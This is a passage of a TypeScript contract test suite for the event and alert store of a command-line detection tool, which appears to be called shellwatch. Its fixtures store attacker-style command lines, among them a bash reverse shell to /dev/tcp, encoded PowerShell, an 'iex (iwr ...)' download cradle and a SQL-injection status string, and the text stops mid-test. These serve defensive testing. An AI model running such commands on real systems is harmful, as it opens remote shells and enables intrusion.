/* eslint-disable max-lines -- one contract suite in one file, so every store visibly runs the same tests */
/**
 * The Store contract suite (src/store/contract.ts): one set of tests, run unchanged against every
 * implementation — SQLite in a temp folder and PostgreSQL in a fresh schema per store. PostgreSQL
 * comes from SHELLWATCH_TEST_PG (default postgres://postgres@127.0.0.1:5432/test); when it cannot be
 * reached the postgres half fails, unless SHELLWATCH_SKIP_PG=1 asks to skip it.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { Store } from '../../src/store/contract.js';
import { openStore } from '../../src/store/index.js';
import type { SqliteStore } from '../../src/store/sqlite/index.js';
import {
  BAD_CURSORS, HOSTILE, PG_URL, alert, allPages, canonical, event, node, postgresHarness, probePostgres, record, sha256, sqliteHarness, type Harness,
} from './fixtures/store-data.js';

/** Asserts a rejection carrying the stable diagnostic code (`code` property) the API maps to a response. */
async function rejectsWith(p: Promise<unknown>, code: string, what?: string): Promise<void> {
  await assert.rejects(p, (e: unknown) => (e as { code?: string }).code === code, what);
}

/** A fresh store for one describe block. */
function fresh(h: Harness): () => Store {
  let s: Store;
  before(async () => { s = await h.open(); });
  after(async () => { await s.close(); });
  return () => s;
}

function contractSuite(h: Harness): void {
  describe(`${h.name} store`, () => {
    after(() => h.cleanup());
    eventTests(h);
    searchTests(h);
    alertTests(h);
    listingTests(h);
    triageTests(h);
    processTests(h);
    stateTests(h);
    tokenTests(h);
    auditTests(h);
    hostileTests(h);
    lifecycleTests(h);
  });
}

function eventTests(h: Harness): void {
  describe('events', () => {
    const store = fresh(h);

    it('lastSeq is 0 when empty; appends give increasing seqs; duplicates return the earlier seq', async () => {
      assert.equal(await store().lastSeq(), 0);
      const a = await store().appendEvents([event('k1', 100), event('k2', 101), event('k1', 102)]);
      assert.equal(a.inserted, 2);
      assert.equal(a.duplicates, 1);
      assert.equal(a.seqs.length, 3);
      assert.ok(a.seqs[1] > a.seqs[0]);
      assert.equal(a.seqs[2], a.seqs[0], 'a duplicate inside the batch gets the first one\'s seq');
      const b = await store().appendEvents([event('k3', 103), event('k2', 104)]);
      assert.deepEqual([b.inserted, b.duplicates], [1, 1]);
      assert.ok(b.seqs[0] > a.seqs[1]);
      assert.equal(b.seqs[1], a.seqs[1]);
      assert.equal(await store().lastSeq(), b.seqs[0]);
      assert.deepEqual(await store().appendEvents([]), { seqs: [], inserted: 0, duplicates: 0 });
    });

    it('keys are exact strings: hex in any case, odd lengths and other text are all distinct keys', async () => {
      const keys = ['00ff', '00FF', '00f', 'abcdef0123456789abcdef0123456789', 'ABCDEF0123456789abcdef0123456789', 'zz', '0x00ff'];
      const r = await store().appendEvents(keys.map((k, i) => event(k, 200 + i)));
      assert.equal(r.inserted, keys.length);
      const again = await store().appendEvents(keys.map((k, i) => event(k, 300 + i)));
      assert.deepEqual([again.seqs, again.duplicates], [r.seqs, keys.length]);
      for (const [i, seq] of r.seqs.entries()) assert.equal((await store().getEvent(seq))?.key, keys[i]);
    });

    it('getEvent returns the record exactly, with host and time from its system header', async () => {
      const rec = record(7, { host: 'DC01.corp', timeMs: 1_700_000_123_456, data: { CommandLine: 'powershell -enc AAAA', nested: { a: [1, 'two', null, true] } } });
      const [seq] = (await store().appendEvents([event('k7', 500, rec, '10.0.0.9:5514')])).seqs;
      const e = await store().getEvent(seq);
      assert.ok(e);
      assert.deepEqual(e, { seq, key: 'k7', receivedMs: 500, stream: 'http', sender: '10.0.0.9:5514', host: 'DC01.corp', timeMs: 1_700_000_123_456, record: rec, normalized: null, commandLine: null });
      assert.equal((await store().getEvent((await store().appendEvents([event('k8', 501)])).seqs[0]))?.sender, null);
      assert.equal(await store().getEvent(999_999), null);
      assert.equal(await store().getEvent(1.5), null);
    });

    it('times that are not finite or beyond the Date range, and non-string hosts, are stored as null', async () => {
      const bad = [Number.NaN, Infinity, -Infinity, 8.64e15 + 1, -9e15, '1700000000000', null];
      const r = await store().appendEvents(bad.map((t, i) => event(`badtime-${i}`, 600 + i, record(i, { timeMs: t, host: i % 2 ? 42 : { x: 1 } }))));
      for (const seq of r.seqs) {
        const e = await store().getEvent(seq);
        assert.equal(e?.timeMs, null);
        assert.equal(e?.host, null);
      }
      const edge = await store().appendEvents([event('edge-time', 700, record(1, { timeMs: -8.64e15 }))]);
      assert.equal((await store().getEvent(edge.seqs[0]))?.timeMs, -8.64e15);
    });

    it('a batch with an invalid event is refused whole (SW6014) and stores nothing', async () => {
      const before = await store().lastSeq();
      await rejectsWith(store().appendEvents([event('ok-1', 800), { ...event('bad', 801), receivedMs: Number.NaN }]), 'SW6014');
      await rejectsWith(store().appendEvents([{ ...event('', 802) }]), 'SW6014');
      assert.equal(await store().lastSeq(), before);
      assert.equal((await store().searchEvents({ afterSeq: before }, 10)).items.length, 0);
    });

    it('readEvents pages forward in seq order', async () => {
      const all = await store().readEvents(0, 10_000);
      assert.ok(all.length >= 10);
      assert.deepEqual(all.map((e) => e.seq), [...all.map((e) => e.seq)].sort((x, y) => x - y));
      const got: number[] = [];
      for (let after = 0; ;) {
        const page = await store().readEvents(after, 3);
        if (!page.length) break;
        assert.ok(page.length <= 3);
        got.push(...page.map((e) => e.seq));
        after = page[page.length - 1].seq;
      }
      assert.deepEqual(got, all.map((e) => e.seq));
      await rejectsWith(store().readEvents(Number.NaN, 10), 'SW6014');
    });

    it('setNormalized fills kind, user, command line and the normalized event; a null time keeps the stored one', async () => {
      const [s1, s2] = (await store().appendEvents([event('n1', 900), event('n2', 901)])).seqs;
      const before = await store().getEvent(s1);
      await store().setNormalized([
        { seq: s1, kind: 'process_start', host: 'ws01', timeMs: null, user: 'CORP\\bob', commandLine: 'cmd /c whoami', normalized: { kind: 'process_start', process: { pid: 4 } } },
        { seq: s2, kind: 'script_block', host: 'ws02', timeMs: 42, user: null, commandLine: null, normalized: { kind: 'script_block' } },
        { seq: 987_654, kind: 'x', host: 'h', timeMs: 1, user: null, commandLine: null, normalized: {} },
      ]);
      const e1 = await store().getEvent(s1);
      assert.deepEqual([e1?.normalized, e1?.commandLine, e1?.host, e1?.timeMs], [{ kind: 'process_start', process: { pid: 4 } }, 'cmd /c whoami', 'ws01', before?.timeMs]);
      assert.deepEqual(e1?.record, before?.record);
      const e2 = await store().getEvent(s2);
      assert.deepEqual([e2?.normalized, e2?.commandLine, e2?.timeMs], [{ kind: 'script_block' }, null, 42]);
      assert.equal(await store().getEvent(987_654), null);
    });

    it('setNormalized again replaces the searchable command line', async () => {
      const [seq] = (await store().appendEvents([event('renorm', 950)])).seqs;
      const set = (commandLine: string | null) => store().setNormalized([{ seq, kind: 'process_start', host: 'h', timeMs: null, user: null, commandLine, normalized: {} }]);
      const found = async (text: string) => (await store().searchEvents({ text }, 10)).items.map((e) => e.seq).includes(seq);
      await set('alpha beta gamma');
      await set('alpha beta delta');
      assert.deepEqual([await found('beta gam'), await found('beta del'), await found('alpha beta')], [false, true, true]);
      await set(null);
      assert.deepEqual([await found('alpha'), (await store().getEvent(seq))?.commandLine], [false, null]);
    });

    it('fields given with an append are stored with the record: searchable at once, host and time from them', async () => {
      const e = { ...event('with-fields', 960), fields: { kind: 'process_start', host: 'Field-Host', timeMs: 4242, user: 'bob', commandLine: 'powershell -enc QQBB fieldmarker' } };
      const [seq] = (await store().appendEvents([e])).seqs;
      const got = await store().getEvent(seq);
      assert.deepEqual([got?.host, got?.timeMs, got?.commandLine], ['Field-Host', 4242, 'powershell -enc QQBB fieldmarker']);
      assert.deepEqual((await store().searchEvents({ text: 'FIELDMARKER', host: 'field-host', kind: 'process_start' }, 10)).items.map((x) => x.seq), [seq]);
    });

    it('maintain() indexes in bulk: text search finds events before and after it, and re-normalized or purged ones stay right', async () => {
      const found = async (text: string) => (await store().searchEvents({ text }, 100)).items.map((e) => e.seq);
      const mk = (k: string, cmd: string) => ({ ...event(k, 970), fields: { kind: 'process_start', host: 'm', timeMs: 1, user: null, commandLine: cmd } });
      const [a] = (await store().appendEvents([mk('maint-a', 'maintmark alpha one')])).seqs;
      assert.deepEqual(await found('maintmark alpha'), [a], 'found before upkeep');
      assert.ok((await store().maintain()) >= 0);
      assert.equal(await store().maintain(), 0, 'nothing left to do');
      const [b] = (await store().appendEvents([mk('maint-b', 'maintmark beta two')])).seqs;
      assert.deepEqual(await found('maintmark'), [b, a], 'indexed and not yet indexed together, newest first');
      await store().setNormalized([{ seq: a, kind: 'process_start', host: 'm', timeMs: null, user: null, commandLine: 'maintmark gamma', normalized: {} }]);
      assert.deepEqual([await found('alpha one'), await found('maintmark gamma')], [[], [a]]);
      await store().maintain();
      assert.deepEqual(await found('maintmark'), [b, a]);
    });

    it('concurrent appends get distinct seqs, and readEvents sees every one in order', async () => {
      const start = await store().lastSeq();
      const batches = await Promise.all(Array.from({ length: 8 }, (_, b) => store().appendEvents(Array.from({ length: 25 }, (_, i) => event(`c${b}-${i}`, 1000 + i)))));
      const seqs = batches.flatMap((r) => r.seqs);
      assert.equal(new Set(seqs).size, 200);
      for (const r of batches) assert.deepEqual(r.seqs, [...r.seqs].sort((x, y) => x - y));
      const read = await store().readEvents(start, 10_000);
      assert.deepEqual(read.map((e) => e.seq), [...seqs].sort((x, y) => x - y));
    });

    it('purgeEvents deletes by receive time, returns the count, and seqs are never reused', async () => {
      const maxBefore = await store().lastSeq();
      const total = (await store().readEvents(0, 10_000)).length;
      const old = (await store().readEvents(0, 10_000)).filter((e) => e.receivedMs < 700).length;
      assert.equal(await store().purgeEvents(700), old);
      assert.equal((await store().readEvents(0, 10_000)).length, total - old);
      assert.equal(await store().purgeEvents(700), 0);
      assert.equal(await store().purgeEvents(Number.MAX_VALUE), total - old);
      assert.equal(await store().lastSeq(), 0);
      const [seq] = (await store().appendEvents([event('after-purge', 5)])).seqs;
      assert.ok(seq > maxBefore, `seq ${seq} reused (max was ${maxBefore})`);
      const again = await store().appendEvents([event('k1', 6)]);
      assert.equal(again.inserted, 1, 'a purged key may be stored again');
      await rejectsWith(store().purgeEvents(Number.NaN), 'SW6014');
    });
  });
}

function searchTests(h: Harness): void {
  describe('searchEvents', () => {
    const store = fresh(h);
    const seqs: number[] = [];
    const cmds = ['cmd.exe /c whoami', 'powershell -NoP -Enc SQBFAFgA', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'CMD.EXE /C WHOAMI /ALL', 'net user 50%_off /add', 'echo "quoted" \\ back'];
    before(async () => {
      const evs = Array.from({ length: 12 }, (_, i) => event(`s${i}`, 100 + i, record(i, { host: i % 3 === 0 ? 'WS01' : 'srv02', timeMs: 10_000 + i * 1000 })));
      seqs.push(...(await store().appendEvents(evs)).seqs);
      await store().setNormalized(seqs.map((seq, i) => ({ seq, kind: i % 2 ? 'process_start' : 'network', host: i % 3 === 0 ? 'WS01' : 'srv02', timeMs: null, user: null, commandLine: cmds[i % cmds.length], normalized: { i } })));
    });
    const search = (f: Parameters<Store['searchEvents']>[0], limit = 100, cursor?: string) => store().searchEvents(f, limit, cursor);
    const idx = (page: { items: { seq: number }[] }) => page.items.map((e) => seqs.indexOf(e.seq));

    it('lists newest first and pages without loss or duplicates', async () => {
      assert.deepEqual(idx(await search({})), [11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1, 0]);
      const { items, pages } = await allPages((c) => search({}, 5, c));
      assert.equal(pages, 3);
      assert.deepEqual(items.map((e) => seqs.indexOf(e.seq)), [11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1, 0]);
      const exact = await search({}, 12);
      assert.equal(exact.next, null, 'no next page when the last page is exactly full');
    });

    it('filters by host (case-insensitive), kind, time range and afterSeq', async () => {
      assert.deepEqual(idx(await search({ host: 'ws01' })), [9, 6, 3, 0]);
      assert.deepEqual(idx(await search({ host: 'WS0' })), []);
      assert.deepEqual(idx(await search({ kind: 'process_start', host: 'WS01' })), [9, 3]);
      assert.deepEqual(idx(await search({ fromMs: 12_000, toMs: 15_000 })), [4, 3, 2]);
      assert.deepEqual(idx(await search({ afterSeq: seqs[8] })), [11, 10, 9]);
    });

    it('text is a case-insensitive substring of the command line (long and short needles)', async () => {
      assert.deepEqual(idx(await search({ text: 'WhoAmI' })), [9, 6, 3, 0]);
      assert.deepEqual(idx(await search({ text: '/dev/tcp/' })), [8, 2]);
      assert.deepEqual(idx(await search({ text: 'oP' })), [7, 1], 'two characters: below the trigram length');
      assert.deepEqual(idx(await search({ text: '&' })), [8, 2]);
      assert.deepEqual(idx(await search({ text: 'whoami /all', host: 'ws01' })), [9, 3]);
      assert.deepEqual(idx(await search({ text: 'not there at all' })), []);
    });

    it('LIKE wildcards, quotes and backslashes in text match literally', async () => {
      assert.deepEqual(idx(await search({ text: '50%_off' })), [10, 4]);
      assert.deepEqual(idx(await search({ text: '%' })), [10, 4]);
      assert.deepEqual(idx(await search({ text: '_' })), [10, 4]);
      assert.deepEqual(idx(await search({ text: '0%_' })), [10, 4]);
      assert.deepEqual(idx(await search({ text: '%o' })), []);
      assert.deepEqual(idx(await search({ text: '"quoted"' })), [11, 5]);
      assert.deepEqual(idx(await search({ text: '\\ b' })), [11, 5]);
      assert.deepEqual(idx(await search({ text: '\\' })), [11, 5]);
    });

    it('text pages like any other filter', async () => {
      const { items } = await allPages((c) => search({ text: 'whoami' }, 1, c));
      assert.deepEqual(items.map((e) => seqs.indexOf(e.seq)), [9, 6, 3, 0]);
    });

    it('rejects garbage cursors with SW6014, and bad limits', async () => {
      for (const c of BAD_CURSORS) await rejectsWith(search({}, 10, c), 'SW6014', `cursor ${JSON.stringify(c.slice(0, 40))}`);
      await store().putAlerts([alert({ id: 'q1' }), alert({ id: 'q2' })]);
      const alertsCursor = (await store().listAlerts({}, 1)).next;
      assert.ok(alertsCursor);
      await rejectsWith(search({}, 10, alertsCursor), 'SW6014', 'an alerts cursor');
      await rejectsWith(search({}, Number.NaN), 'SW6014');
      await rejectsWith(search({ fromMs: Number.NaN }), 'SW6014');
      assert.equal((await search({}, 0)).items.length, 1, 'limit clamps to 1');
      assert.equal((await search({}, 1e9)).items.length, 12, 'limit clamps to 1000');
    });
  });
}

function alertTests(h: Harness): void {
  describe('commitDetection', () => {
    const store = fresh(h);
    it('stores alerts (idempotently), nodes, host counts and positions together; returns the new alert ids', async () => {
      const r = { alerts: [alert({ id: 'commit-1' })], nodes: [node('commit-host', 'p:1:1', { pid: 1, image: '/bin/sh' })], hosts: [{ name: 'commit-host', timeMs: 5, events: 3, alerts: 1 }], positions: [['commit.cursor', '42']] as [string, string][] };
      assert.deepEqual(await store().commitDetection(r), ['commit-1']);
      assert.deepEqual(await store().commitDetection(r), [], 'the same alert again is not new');
      assert.equal((await store().getAlert('commit-1'))?.id, 'commit-1');
      assert.equal((await store().getProcess('commit-host', 'p:1:1'))?.image, '/bin/sh');
      assert.equal(await store().getPosition('commit.cursor'), '42');
      const hosts = (await store().listHosts(1000)).items.filter((h) => h.name === 'commit-host');
      assert.deepEqual(hosts.map((h) => h.events), [6]);
    });
  });

  describe('putAlerts / getAlert', () => {
    const store = fresh(h);

    it('inserts idempotently by id and returns the new ids in input order', async () => {
      assert.deepEqual(await store().putAlerts([alert({ id: 'b' }), alert({ id: 'a' }), alert({ id: 'c' })]), ['b', 'a', 'c']);
      assert.deepEqual(await store().putAlerts([alert({ id: 'a' }), alert({ id: 'c' })]), []);
      assert.deepEqual(await store().putAlerts([alert({ id: 'd' }), alert({ id: 'a' }), alert({ id: 'e' }), alert({ id: 'd' })]), ['d', 'e']);
      assert.deepEqual(await store().putAlerts([]), []);
      assert.equal(await store().countAlerts({}), 5);
    });

    it('keeps the alert exactly, with its triage state', async () => {
      const input = alert({ id: 'full', host: 'WS-Ünï', time: '2024-03-04T05:06:07.089Z', createdMs: 1234, group: 'g1' });
      input.alert.decoded = [{ technique: 'powershell-encodedcommand', text: 'iex (iwr http://x)' }];
      await store().putAlerts([input]);
      assert.deepEqual(await store().getAlert('full'), { id: 'full', alert: input.alert, groupKey: 'g1', status: 'new', assignee: null, notes: [], createdMs: 1234, updatedMs: 1234 });
      assert.equal(await store().getAlert('nope'), null);
      const again = alert({ id: 'full', host: 'other', createdMs: 9999 });
      await store().putAlerts([again]);
      assert.equal((await store().getAlert('full'))?.alert.host, 'WS-Ünï', 'the first version is kept');
    });

    it('refuses alerts without an id or with a bad createdMs (SW6014), storing none of the batch', async () => {
      const before = await store().countAlerts({});
      await rejectsWith(store().putAlerts([alert({ id: 'ok-x' }), alert({ id: '' })]), 'SW6014');
      await rejectsWith(store().putAlerts([alert({ id: 'nan', createdMs: Number.NaN })]), 'SW6014');
      assert.equal(await store().countAlerts({}), before);
    });

    it('an unreadable alert time sorts as of its createdMs', async () => {
      await store().putAlerts([alert({ id: 'badtime', time: 'not a time', createdMs: 5_000 })]);
      const page = await store().listAlerts({ fromMs: 5_000, toMs: 5_001 }, 10);
      assert.deepEqual(page.items.map((a) => a.id), ['badtime']);
    });
  });
}

function listingTests(h: Harness): void {
  describe('listAlerts / countAlerts', () => {
    const store = fresh(h);
    const t = (m: number) => new Date(Date.UTC(2024, 0, 1, 0, m)).toISOString();
    before(async () => {
      await store().putAlerts([
        alert({ id: 'a1', time: t(1), host: 'WS01', user: 'CORP\\Alice', rule: 'chained-commands', level: 'low', cmd: 'cmd /c whoami & hostname' }),
        alert({ id: 'a2', time: t(5), host: 'ws01', user: 'corp\\bob', rule: 'encoded-obfuscated-cli', level: 'high', cmd: 'powershell -EncodedCommand SQBFAFgA' }),
        alert({ id: 'b2', time: t(5), host: 'SRV02', user: null, rule: 'encoded-obfuscated-cli', level: 'critical', cmd: 'pwsh -enc 50%_done' }),
        alert({ id: 'a3', time: t(5), host: 'srv02', user: 'corp\\alice', rule: 'chained-commands', level: 'medium', cmd: null }),
        alert({ id: 'c1', time: t(9), host: 'WS01.corp', user: 'root', rule: 'shell-over-reverse-connection', level: 'informational', cmd: 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1' }),
        ...Array.from({ length: 6 }, (_, i) => alert({ id: `z${i}`, time: t(20 + (i % 2)), host: 'bulk', user: 'svc', rule: 'chained-commands', level: 'medium', cmd: `echo ${i}` })),
      ]);
    });
    const ids = async (f: Parameters<Store['listAlerts']>[0], limit = 100) => (await store().listAlerts(f, limit)).items.map((a) => a.id);

    it('lists newest alert time first, ties by id', async () => {
      assert.deepEqual(await ids({}), ['z1', 'z3', 'z5', 'z0', 'z2', 'z4', 'c1', 'a2', 'a3', 'b2', 'a1']);
    });

    it('pages with keyset cursors, across ties, without loss or duplicates', async () => {
      for (const limit of [1, 2, 3, 4, 10, 11]) {
        const { items } = await allPages((c) => store().listAlerts({}, limit, c));
        assert.deepEqual(items.map((a) => a.id), ['z1', 'z3', 'z5', 'z0', 'z2', 'z4', 'c1', 'a2', 'a3', 'b2', 'a1'], `limit ${limit}`);
      }
      const { items } = await allPages((c) => store().listAlerts({ rule: 'chained-commands' }, 2, c));
      assert.deepEqual(items.map((a) => a.id), ['z1', 'z3', 'z5', 'z0', 'z2', 'z4', 'a3', 'a1']);
    });

    it('filters: host and user case-insensitive exact, rule, minLevel, time range, text', async () => {
      assert.deepEqual(await ids({ host: 'Ws01' }), ['a2', 'a1']);
      assert.deepEqual(await ids({ host: 'srv02' }), ['a3', 'b2']);
      assert.deepEqual(await ids({ user: 'CORP\\ALICE' }), ['a3', 'a1']);
      assert.deepEqual(await ids({ rule: 'encoded-obfuscated-cli' }), ['a2', 'b2']);
      assert.deepEqual(await ids({ minLevel: 'high' }), ['a2', 'b2']);
      assert.deepEqual(await ids({ minLevel: 'informational', host: 'ws01.corp' }), ['c1']);
      assert.deepEqual(await ids({ fromMs: Date.parse(t(5)), toMs: Date.parse(t(9)) }), ['a2', 'a3', 'b2']);
      assert.deepEqual(await ids({ text: 'ENCODEDcommand' }), ['a2']);
      assert.deepEqual(await ids({ text: '-enc' }), ['a2', 'b2']);
      assert.deepEqual(await ids({ text: '%_' }), ['b2']);
      assert.deepEqual(await ids({ text: '/t' }), ['c1']);
      assert.deepEqual(await ids({ text: 'whoami', host: 'srv02' }), []);
    });

    it('countAlerts agrees with the listing for every filter', async () => {
      const filters = [{}, { host: 'WS01' }, { user: 'corp\\alice' }, { minLevel: 'medium' as const }, { text: 'enc' }, { status: ['new' as const] }, { status: ['closed' as const] }, { rule: 'nope' }];
      for (const f of filters) assert.equal(await store().countAlerts(f), (await ids(f, 1000)).length, JSON.stringify(f));
    });

    it('status and assignee filters follow triage', async () => {
      await store().updateAlerts(['a2', 'c1'], { status: 'in_progress', assignee: 'carol' }, 'cli:test', 50);
      await store().updateAlerts(['b2'], { status: 'closed' }, 'cli:test', 51);
      assert.deepEqual(await ids({ status: ['in_progress', 'closed'] }), ['c1', 'a2', 'b2']);
      assert.deepEqual(await ids({ assignee: 'carol' }), ['c1', 'a2']);
      assert.deepEqual(await ids({ assignee: 'Carol' }), [], 'assignee is exact');
      assert.equal((await ids({ status: [] })).length, 11, 'an empty status list filters nothing');
    });

    it('rejects garbage cursors, unknown levels and statuses with SW6014', async () => {
      for (const c of BAD_CURSORS) await rejectsWith(store().listAlerts({}, 10, c), 'SW6014', `cursor ${JSON.stringify(c.slice(0, 40))}`);
      await store().appendEvents([event('x', 1), event('y', 2)]);
      const eventsCursor = (await store().searchEvents({}, 1)).next;
      assert.ok(eventsCursor);
      await rejectsWith(store().listAlerts({}, 10, eventsCursor), 'SW6014', 'an events cursor');
      await rejectsWith(store().listAlerts({ minLevel: 'severe' as never }, 10), 'SW6014');
      await rejectsWith(store().listAlerts({ status: ['open' as never] }, 10), 'SW6014');
      await rejectsWith(store().countAlerts({ status: ["new' OR '1'='1" as never] }), 'SW6014');
      await rejectsWith(store().listAlerts({}, Number.NaN), 'SW6014');
      assert.equal((await store().listAlerts({}, -5)).items.length, 1);
      // well-formed but hand-made: accepted as a position, and its NUL never reaches the database
      const forged = Buffer.from(`a:${JSON.stringify([Date.parse(t(21)), 'z1\u0000'])}`).toString('base64url');
      assert.deepEqual((await store().listAlerts({}, 3, forged)).items.map((a) => a.id), ['z3', 'z5', 'z0']);
      await store().listHosts(10, Buffer.from(`h:${JSON.stringify(['a\u0000'])}`).toString('base64url'));
    });
  });
}

function triageTests(h: Harness): void {
  describe('updateAlerts', () => {
    const store = fresh(h);
    before(async () => { await store().putAlerts(['t1', 't2', 't3'].map((id) => alert({ id }))); });

    it('applies the patch, appends notes, ignores unknown ids, returns and audits each changed alert', async () => {
      const out = await store().updateAlerts(['t2', 'ghost', 't1', 't2'], { status: 'acknowledged', assignee: 'dana', note: 'looking' }, 'token:dana', 2_000);
      assert.deepEqual(out.map((a) => [a.id, a.status, a.assignee, a.updatedMs]), [['t2', 'acknowledged', 'dana', 2_000], ['t1', 'acknowledged', 'dana', 2_000]]);
      assert.deepEqual(out[0].notes, [{ timeMs: 2_000, actor: 'token:dana', text: 'looking' }]);
      assert.deepEqual(await store().getAlert('t2'), out[0]);
      assert.equal((await store().getAlert('t3'))?.status, 'new');
      const audit = (await store().listAudit(10)).items;
      assert.deepEqual(audit.map((e) => [e.action, e.target, e.actor, e.timeMs]).sort(), [['alert.update', 't1', 'token:dana', 2_000], ['alert.update', 't2', 'token:dana', 2_000]]);
      for (const e of audit) assert.deepEqual(e.details, { status: 'acknowledged', assignee: 'dana', note: 'looking' });
    });

    it('notes accumulate; clearing the assignee works; a patch that changes nothing writes no audit entry', async () => {
      await store().updateAlerts(['t1'], { note: 'second' }, 'cli:root', 3_000);
      const t1 = await store().updateAlerts(['t1'], { assignee: null }, 'cli:root', 3_500);
      assert.deepEqual(t1[0].notes.map((n) => n.text), ['looking', 'second']);
      assert.equal(t1[0].assignee, null);
      const count = (await store().listAudit(1000)).items.length;
      assert.deepEqual(await store().updateAlerts(['t1'], { status: 'acknowledged', assignee: null }, 'cli:root', 4_000), [], 'only changed alerts are returned');
      assert.equal((await store().getAlert('t1'))?.updatedMs, 3_500, 'unchanged');
      assert.equal((await store().listAudit(1000)).items.length, count);
      assert.equal(await store().verifyAudit(), null);
    });

    it('an invalid patch is refused (SW6014) and changes nothing', async () => {
      const before = await store().getAlert('t3');
      await rejectsWith(store().updateAlerts(['t3'], { status: 'deleted' as never }, 'x', 1), 'SW6014');
      await rejectsWith(store().updateAlerts(['t3'], { assignee: 7 as never }, 'x', 1), 'SW6014');
      await rejectsWith(store().updateAlerts(['t3'], { status: 'closed' }, 'x', Number.NaN), 'SW6014');
      assert.deepEqual(await store().getAlert('t3'), before);
      assert.deepEqual(await store().updateAlerts([], { status: 'closed' }, 'x', 1), []);
      await rejectsWith(store().updateAlerts('t3' as never, { status: 'closed' }, 'x', 1), 'SW6014');
    });

    it('the alert change and its audit entry commit together or not at all', async () => {
      await h.blockAudit(store(), 'blocked-actor');
      const before = await store().getAlert('t3');
      await assert.rejects(store().updateAlerts(['t3'], { status: 'closed', note: 'x' }, 'blocked-actor', 7_000));
      assert.deepEqual(await store().getAlert('t3'), before);
      assert.equal((await store().updateAlerts(['t3'], { status: 'closed' }, 'ok-actor', 7_001)).length, 1);
      assert.equal(await store().verifyAudit(), null);
    });

    it('concurrent updates keep every note and an intact audit chain', async () => {
      const notesBefore = (await store().getAlert('t3'))?.notes.length ?? 0;
      await Promise.all(Array.from({ length: 10 }, (_, i) => store().updateAlerts(['t3', 't2'], { note: `n${i}` }, `actor${i}`, 10_000 + i)));
      assert.equal((await store().getAlert('t3'))?.notes.length, notesBefore + 10);
      assert.equal(await store().verifyAudit(), null);
    });
  });
}

function processTests(h: Harness): void {
  describe('process nodes', () => {
    const store = fresh(h);

    it('upserts by (host, key): known values stay, nulls fill, the longer command line wins, seqs and sources accumulate', async () => {
      await store().putProcesses([node('H1', 'g:1', { pid: 10, image: 'cmd.exe', commandLine: 'cmd /c', seqs: [5, 3], sources: ['Security:4688'] })]);
      await store().putProcesses([node('H1', 'g:1', { pid: 99, parentKey: 'g:0', commandLine: 'cmd /c whoami', user: 'bob', startMs: 7, seqs: [3, 8], sources: ['Sysmon:1', 'Security:4688'] })]);
      await store().putProcesses([node('H1', 'g:1', { commandLine: 'cmd', image: null, seqs: [8, 9, 9] })]);
      assert.deepEqual(await store().getProcess('H1', 'g:1'), node('H1', 'g:1', { pid: 10, parentKey: 'g:0', image: 'cmd.exe', commandLine: 'cmd /c whoami', user: 'bob', startMs: 7, seqs: [5, 3, 8, 9], sources: ['Security:4688', 'Sysmon:1'] }));
      assert.equal(await store().getProcess('h1', 'g:1'), null, 'host is part of the key as given');
      assert.equal(await store().getProcess('H1', 'g:2'), null);
    });

    it('one node reported twice in one batch merges the same way', async () => {
      await store().putProcesses([node('H2', 'p:4:1', { pid: 4, seqs: [1] }), node('H2', 'p:4:1', { image: 'sh', seqs: [2], commandLine: 'sh -c id' }), node('H2', 'p:4:1', { pid: 5, commandLine: 'sh' })]);
      assert.deepEqual(await store().getProcess('H2', 'p:4:1'), node('H2', 'p:4:1', { pid: 4, image: 'sh', commandLine: 'sh -c id', seqs: [1, 2] }));
    });

    it('childrenOf lists by start time then key, unknown start times last, within the limit', async () => {
      await store().putProcesses([
        node('H3', 'c', { parentKey: 'root', startMs: 20 }), node('H3', 'b', { parentKey: 'root', startMs: 10 }), node('H3', 'a', { parentKey: 'root', startMs: 20 }),
        node('H3', 'n', { parentKey: 'root' }), node('H3', 'x', { parentKey: 'other', startMs: 1 }), node('H4', 'y', { parentKey: 'root', startMs: 1 }),
      ]);
      assert.deepEqual((await store().childrenOf('H3', 'root', 100)).map((n) => n.key), ['b', 'a', 'c', 'n']);
      assert.deepEqual((await store().childrenOf('H3', 'root', 2)).map((n) => n.key), ['b', 'a']);
      assert.deepEqual(await store().childrenOf('H3', 'nobody', 10), []);
    });
  });
}

function stateTests(h: Harness): void {
  describe('hosts, positions, snapshots', () => {
    const store = fresh(h);

    it('touchHosts adds counts and widens the seen range; listHosts pages by name', async () => {
      await store().touchHosts([{ name: 'b-host', timeMs: 500, events: 3, alerts: 0 }, { name: 'a-host', timeMs: 100, events: 1, alerts: 1 }, { name: 'b-host', timeMs: 200, events: 2, alerts: 1 }]);
      await store().touchHosts([{ name: 'b-host', timeMs: 900, events: 5, alerts: 0 }, { name: 'c-host', timeMs: Number.NaN, events: 1, alerts: 0 }]);
      await store().touchHosts([]);
      const all = await store().listHosts(100);
      assert.deepEqual(all.items, [
        { name: 'a-host', firstSeenMs: 100, lastSeenMs: 100, events: 1, alerts: 1 },
        { name: 'b-host', firstSeenMs: 200, lastSeenMs: 900, events: 10, alerts: 1 },
        { name: 'c-host', firstSeenMs: 0, lastSeenMs: 0, events: 1, alerts: 0 },
      ]);
      assert.equal(all.next, null);
      const { items, pages } = await allPages((c) => store().listHosts(1, c));
      assert.deepEqual([items.map((x) => x.name), pages], [['a-host', 'b-host', 'c-host'], 3]);
      for (const c of BAD_CURSORS) await rejectsWith(store().listHosts(10, c), 'SW6014');
    });

    it('host names order by code point in both stores', async () => {
      await store().touchHosts(['Zeta', 'alpha', 'Éclair', '_x', '0'].map((name) => ({ name, timeMs: 1, events: 1, alerts: 0 })));
      const names = (await store().listHosts(100)).items.map((x) => x.name);
      assert.deepEqual(names, [...names].sort());
    });

    it('positions are upserted values', async () => {
      assert.equal(await store().getPosition('follow:/var/log/x'), null);
      await store().setPosition('follow:/var/log/x', '{"ino":1,"off":10}');
      await store().setPosition('follow:/var/log/x', '{"ino":1,"off":20}');
      await store().setPosition('detect', '42');
      assert.equal(await store().getPosition('follow:/var/log/x'), '{"ino":1,"off":20}');
      assert.equal(await store().getPosition('detect'), '42');
    });

    it('snapshots keep seq and bytes exactly', async () => {
      assert.equal(await store().getSnapshot('lineage'), null);
